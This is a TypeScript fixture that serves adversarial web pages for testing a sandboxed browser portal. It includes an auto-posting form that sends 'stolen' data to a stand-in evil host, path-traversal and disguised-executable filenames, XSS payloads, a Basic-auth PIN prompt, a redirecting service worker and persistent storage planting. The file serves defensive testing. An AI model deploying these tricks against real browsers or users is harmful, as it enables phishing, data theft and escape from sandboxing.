import { makePdf } from '../pdf.ts';
import { type Answer, type Ask, autoPost, html, page, redirect } from '../site.ts';
import { CLIENT_TRICKS } from './tricks-client.ts';

const ROOT = '/irisbox/tricks/';
const WORKER = `self.addEventListener('install',e=>{self.skipWaiting();e.waitUntil(caches.open('trick').then(c=>c.put('/irisbox/tricks/cached',new Response('MARK-IN-CACHE'))))});
self.addEventListener('activate',e=>e.waitUntil(self.clients.claim()));
self.addEventListener('fetch',e=>{const u=new URL(e.request.url);if(u.pathname.endsWith('/tricks/from-worker'))e.respondWith(new Response('<!doctype html><title>w</title><h1 id="worker">from the worker</h1>',{headers:{'content-type':'text/html'}}));
if(u.pathname.endsWith('/tricks/worker-away'))e.respondWith(Response.redirect(u.searchParams.get('to'),302))});`;
const FILES: Record<string, { type: string; name: string; body: () => Buffer | string }> = {
  pdf: { type: 'application/pdf', name: 'attestation.pdf', body: () => makePdf(['Attestation', 'Document de test']) },
  exe: { type: 'application/octet-stream', name: 'setup.exe', body: () => 'MZ' },
  html: { type: 'text/html', name: 'page.html', body: () => '<script>alert(1)</script>' },
  double: { type: 'application/pdf', name: 'facture.pdf.exe', body: () => 'MZ' },
  disguised: { type: 'application/pdf', name: 'facture.pdf', body: () => 'MZ, this is no PDF' },
  svg: {
    type: 'image/svg+xml',
    name: 'image.svg',
    body: () => '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  },
  path: { type: 'application/pdf', name: '../../../../tmp/climbed.pdf', body: () => makePdf(['Climbed']) },
  desktop: { type: 'application/x-desktop', name: 'menu.desktop', body: () => '[Desktop Entry]\nExec=xterm\n' },
  png: { type: 'image/png', name: 'photo.png', body: () => PIXEL },
  huge: { type: 'application/pdf', name: 'enorme.pdf', body: () => Buffer.alloc(210_000_000) },
};
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPj/HwADBwIAMCbHYQAAAABJRU5ErkJggg==',
  'base64',
);

/**
 * The adversarial section of the portal, below `/irisbox/tricks/`: an allowed site that tries to leave, to trap, to keep. `to`
 * says where it wants to go. Each page has one element `#go` to touch, or begins by itself. Null: no such trick.
 */
export function tricks(ask: Ask): Answer {
  if (ask.path === '/admin/secret') return page('<!doctype html><title>ESCAPED</title><h1 id="escaped">another part</h1>');
  if (!ask.path.startsWith(ROOT)) return null;
  const name = ask.path.slice(ROOT.length);
  const client = CLIENT_TRICKS[name];
  if (client) return wrap(name, client);
  return SERVER[name]?.(ask) ?? null;
}

const to = ({ query }: Ask) => query.get('to') ?? 'https://evil.example/';

const SERVER: Record<string, (ask: Ask) => Answer> = {
  '': () => index(),
  /** A link with any address; `target`, `rel`, `download` as wished. */
  link(ask) {
    const more = ['target', 'rel', 'download', 'ping'].map((name) =>
      ask.query.has(name) ? ` ${name}="${html(ask.query.get(name) ?? '')}"` : '',
    );
    return wrap('link', `<a id="go" href="${html(to(ask))}"${more.join('')}>un lien</a>`);
  },
  redirect: (ask) => redirect(to(ask), code(ask)),
  meta: (ask) => wrap('meta', '', `<meta http-equiv="refresh" content="0; url=${html(to(ask))}">`),
  refresh: (ask) => page('<!doctype html><h1>refresh</h1>', { headers: { Refresh: `0; url=${to(ask)}` } }),
  js: (ask) => wrap('js', `<script>location.replace(${script(to(ask))})</script>`),
  /** A form that posts elsewhere by itself, as a log-in does. */
  post: (ask) => autoPost(to(ask), { stolen: 'MARK-IN-POST' }),
  frame(ask) {
    const sandbox = ask.query.has('sandbox') ? ` sandbox="${html(ask.query.get('sandbox') ?? '')}"` : '';
    return wrap('frame', `<iframe id="frame" width="500" height="200" src="${html(to(ask))}"${sandbox}></iframe>`);
  },
  /** A page of ours in a frame that takes the whole window elsewhere. */
  'frame-top': (ask) =>
    wrap('frame-top', `<iframe id="frame" src="/irisbox/tricks/top?to=${encodeURIComponent(to(ask))}"></iframe>`),
  top: (ask) =>
    page(
      `<!doctype html><a id="go" target="_top" href="${html(to(ask))}">top</a><script>try{top.location=${script(to(ask))}}catch{}</script>`,
    ),
  srcdoc(ask) {
    const inner = `<script>top.location=${script(to(ask))}</script><a target=_top href="${to(ask)}">x</a>`;
    return wrap('srcdoc', `<iframe id="frame" srcdoc="${html(inner)}"></iframe>`);
  },
  open(ask) {
    const features = ask.query.get('features') ?? '';
    return wrap(
      'open',
      `<button id="go" onclick='window.got=window.open(${script(to(ask))},"_blank",${script(features)})'>ouvrir</button>`,
    );
  },
  /** Opens itself again, `n` times, on one touch or on none. */
  chain(ask) {
    const left = Number(ask.query.get('n') ?? 5);
    const next = left > 0 ? `/irisbox/tricks/chain?n=${left - 1}` : to(ask);
    return wrap(
      `chain ${left}`,
      `<button id="go" onclick='open(${script(next)})'>encore</button><script>open(${script(next)})</script>`,
    );
  },
  /** A page that its opener sends elsewhere. */
  'opener-away': (ask) =>
    wrap(
      'opener',
      `<button id="go" onclick='const w=open("/irisbox/tricks/page");setTimeout(()=>{try{w.location=${script(to(ask))}}catch(e){document.title=e.name}},300)'>ouvrir</button>`,
    ),
  never: ({ query }) => {
    const n = Number(query.get('n') ?? 0);
    return wrap(`never ${n}`, `<script>location.href='/irisbox/tricks/never?n=${n + 1}'</script>`);
  },
  status: (ask) => page(`<!doctype html><h1>${code(ask, 503)}</h1>`, { status: code(ask, 503) }),
  slow: () => 'hang',
  reset: () => 'reset',
  basic({ headers }) {
    const given = headers.authorization;
    if (given) return page(`<!doctype html><h1 id="basic">${html(String(given))}</h1>`);
    return page('<!doctype html><h1>401</h1>', { status: 401, headers: { 'WWW-Authenticate': 'Basic realm="Your PIN please"' } });
  },
  download({ query }) {
    const file = FILES[query.get('kind') ?? 'pdf'];
    if (!file) return null;
    const how = query.has('inline') ? 'inline' : 'attachment';
    return { type: file.type, body: file.body(), headers: { 'Content-Disposition': `${how}; filename="${file.name}"` } };
  },
  'pdf-link': (ask) => ({
    type: 'application/pdf',
    body: makePdf(['A link to elsewhere'], to(ask)),
    headers: { 'Content-Disposition': 'inline' },
  }),
  'worker.js': () => ({ type: 'text/javascript', body: WORKER, headers: { 'Service-Worker-Allowed': '/irisbox/' } }),
  /** Plants one mark in everything that a site can keep. */
  plant(ask) {
    const mark = (ask.query.get('mark') ?? 'MARK').replace(/[^\w-]/g, '');
    return page(
      `<!doctype html><title>plant</title><h1 id="done" hidden>done</h1><form><input id="typed" name="typed" autocomplete="on"></form><script>
const mark=${script(mark)};(async()=>{localStorage.mark=mark;sessionStorage.mark=mark;document.cookie='plain='+mark+'; path=/; max-age=99999';
await new Promise(r=>{const o=indexedDB.open('trick',1);o.onupgradeneeded=()=>o.result.createObjectStore('s').put(mark,'k');o.onsuccess=r;o.onerror=r});
const c=await caches.open('plant');await c.put('/irisbox/tricks/x',new Response(mark));await navigator.serviceWorker.register('/irisbox/tricks/worker.js',{scope:'/irisbox/tricks/'}).catch(()=>{});
document.getElementById('done').hidden=false})()</script>`,
      {
        headers: {
          'Set-Cookie': `kept=${mark}; Path=/; Secure; HttpOnly; Max-Age=99999`,
          'Cache-Control': 'max-age=9999',
          ETag: `"${mark}"`,
        },
      },
    );
  },
  huge: () =>
    page(
      `<!doctype html><title>huge</title>${'<p>Une ligne de plus.</p>'.repeat(60_000)}<a id="go" href="/irisbox/home">fin</a>`,
    ),
};

function code({ query }: Ask, otherwise: 301 | 302 | 303 | 307 | 308 | 503 = 302): 302 {
  // A test names a real status; the type is that of the most usual one.
  return Number(query.get('status') ?? otherwise) as 302;
}

function index(): Answer {
  const names = [...Object.keys(SERVER), ...Object.keys(CLIENT_TRICKS)].filter(Boolean);
  return wrap('tricks', `<ul>${names.map((name) => `<li><a href="${ROOT}${name}">${name}</a></li>`).join('')}</ul>`);
}

function wrap(name: string, body: string, head = ''): Answer {
  return page(
    `<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>${html(name)}</title>${head}</head><body><h1 id="trick">${html(name)}</h1>${body}</body></html>`,
  );
}

/** Text inside a script inside HTML. */
function script(text: string): string {
  return JSON.stringify(text).replace(/</g, '\\u003c').replace(/'/g, '\\u0027');
}
